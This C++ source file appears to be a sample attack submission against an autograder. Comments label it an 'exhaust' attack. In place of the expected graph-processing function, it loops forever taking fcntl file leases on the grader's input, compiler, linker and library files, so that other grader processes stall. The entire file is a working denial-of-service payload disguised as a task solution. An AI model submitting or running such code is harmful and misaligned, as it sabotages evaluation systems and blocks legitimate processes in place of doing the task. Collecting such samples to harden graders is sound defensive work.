// attack: exhaust
// root: resources
// what: takes leases on all files that it can open, so that every other process of the grader's user
//   that opens one of them has to wait
// list: 6 30
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  signal(SIGIO, SIG_IGN);
  for (;;) {
    for (const char* name : {"/in/graph.mtx", "/edges", "/broker", "/host", "/device", "/guard", "/usr/bin/env", "/usr/bin/g++", "/usr/bin/ld", "/lib/x86_64-linux-gnu/libm.so.6", "/etc/ld.so.cache"}) {
      const int file = open(name, O_RDONLY);
      if (fcntl(file, F_SETLEASE, F_WRLCK) != 0 && fcntl(file, F_SETLEASE, F_RDLCK) != 0) close(file);
    }
    sleep(1);
  }
}
